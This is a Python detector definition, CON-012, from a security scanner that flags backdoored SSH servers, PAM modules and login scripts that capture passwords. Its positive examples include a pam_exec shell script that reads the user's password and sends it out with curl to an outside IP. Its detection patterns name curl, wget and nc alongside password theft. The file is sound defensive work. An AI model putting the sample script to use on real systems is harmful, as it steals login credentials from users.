"""CON-012: an SSH server, PAM module or login script that keeps passwords or lets its maker in."""

from __future__ import annotations

from periderm.engines.content.judging import Detector, program
from periderm.model.detector import DetectorSpec, Example
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

DETECTOR = Detector(
    spec=DetectorSpec(
        id="CON-012",
        title=Text("Find a backdoor in the login", "发现登录后门"),
        message=Text("Find a backdoor in the login: {object}", "发现登录后门：{object}"),
        severity=Severity.CRITICAL,
        maturity=Maturity.INCUBATING,
        remediation=Text(
            "Install the package of that file anew from a source that you trust, and change every password that was typed there.",
            "从可信来源重新安装该文件所属的软件包，并更换在该处输入过的所有口令。",
        ),
        techniques=("T1556.003", "T1554"),
        fires=(
            Example(
                program(
                    b"pam_sm_authenticate\x00pam_get_authtok\x00fopen\x00/tmp/.sshlog\x00user: %s pass: %s\n\x00strcmp\x00"
                ),
                "a PAM module that writes passwords down",
            ),
            Example(
                program(b"OpenSSH_9.2p1\x00sshd: no hostkeys available\x00/usr/include/.ilog\x00%s:%s\n\x00crypt\x00"),
                "a server that keeps them in a strange place",
            ),
            Example(
                b'#!/bin/sh\nread -r PASSWORD\necho "$PAM_USER:$PASSWORD" | curl -s --data-binary @- http://203.0.113.5/p\n',
                "a script for pam_exec",
            ),
        ),
        quiet=(
            Example(
                program(b"pam_sm_authenticate\x00pam_get_authtok\x00/etc/shadow\x00syslog\x00user %s failed\x00"), "pam_unix"
            ),
            Example(program(b"OpenSSH_9.2p1\x00sshd: no hostkeys available\x00/etc/ssh/sshd_config\x00%s:%s\x00"), "sshd"),
            Example(b'#!/bin/sh\nlogger "login of $PAM_USER from $PAM_RHOST"\n', "a script that notes who came"),
        ),
    ),
    quick=(
        (
            rb"pam_sm_authenticate|sshd: no hostkeys|\x00OpenSSH_\d",
            rb"\x00/((var/)?tmp|dev/shm|usr/include)/[\w.-]+\x00|\x00/(usr/|var/)[\w/]*/\.[\w.-]+\x00|\x00/etc/\.[a-wyz0-9_]+\x00",
            rb"%s",
        ),
        (rb"PAM_USER", rb"curl|wget|\bnc\s|>>"),
    ),
    source=r"""
    strings:
        $elf = { 7F 45 4C 46 }
        $pam = "pam_sm_authenticate"
        $token = /pam_get_(authtok|item)/
        $server = "sshd: no hostkeys available"
        $client = /\x00OpenSSH_\d/
        $asks = "SSH_ASKPASS"
        $place = /\x00\/(tmp|var\/tmp|dev\/shm|usr\/include|usr\/share\/man|usr\/games|usr\/local\/include|var\/games|usr\/lib|var\/run|var\/log)\/\.[\w.-]{1,40}\x00/
        $place_etc = /\x00\/etc\/\.[a-wyz0-9_]{2,24}\x00/
        $place_plain = /\x00\/(tmp|var\/tmp|dev\/shm|usr\/include)\/[a-z0-9_-]{1,30}(\.(log|txt|h|dat|gz|out))?\x00/
        $pair = /(\x00|\n)[^\x00\n]{0,40}(user|login|username|%s)[^\x00\n]{0,20}(pass|password|:)[^\x00\n]{0,12}%s/ nocase
        $script = /^#!\s*\/\S{1,40}/
        $reads = /\bread\s+(-\w+\s+)*\w{1,20}|sys\.stdin\.(readline|read)\s*\(|cat\s+-?\s*[>|]|\$\(cat\)/
        $user = /PAM_USER/
        $away = /(curl|wget|nc|ncat)\s[^\n]{4,200}|>>\s*\/(tmp|var\/tmp|dev\/shm|etc\/\.|usr\/\S{1,30}\/\.)\S{0,40}/
        $secret = /pass(word|wd)?\b|authtok/ nocase
    condition:
        ($elf at 0 and filesize < 8MB and $pam and $token and $pair and ($place or $place_etc or $place_plain))
        or ($elf at 0 and filesize < 8MB and ($server or ($client and $asks)) and $pair and ($place or $place_etc or $place_plain))
        or ($script at 0 and filesize < 64KB and $user and $reads and $secret and $away)
""",
)
